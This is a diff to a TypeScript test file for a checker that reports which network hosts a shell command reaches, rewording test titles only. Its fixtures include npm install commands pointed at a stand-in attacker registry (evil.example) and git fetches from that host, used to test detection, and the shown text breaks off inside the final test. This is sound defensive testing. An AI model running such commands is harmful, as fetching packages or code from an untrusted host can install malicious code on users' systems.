@@ -7,7 +7,7 @@ function networkOf(line: string): readonly string[] {
   );
 }
 
-describe('a package manager that is given no place of its own gets packages from where the project says', () => {
+describe("a package manager without a source of its own gets packages from the project's sources", () => {
   test.each([
     ['npm ci', ['npm']],
     ['cd web && npm install zod', ['npm']],
@@ -31,7 +31,7 @@ describe('a package manager that is given no place of its own gets packages from
   });
 });
 
-describe('a word that says where else, or that is not known, leaves the hosts open', () => {
+describe('a word that names another source, or is unknown, leaves the hosts open', () => {
   test.each([
     'npm ci --registry https://evil.example',
     'npm --registry https://evil.example ci',
@@ -59,12 +59,12 @@ describe('a word that says where else, or that is not known, leaves the hosts op
   });
 });
 
-test('a host that git is given by its address is named', () => {
+test('a host in an address for git is reported', () => {
   expect(networkOf('git fetch https://evil.example/x.git')).toContain('evil.example');
   expect(networkOf('git fetch git@evil.example:x.git')).toContain('evil.example');
 });
 
-test('what sends or publishes is as dangerous as before, whatever was agreed to', () => {
+test('sending and publishing stay as dangerous as before, whatever was agreed to', () => {
   for (const line of [
     'npm publish',
     'git push',
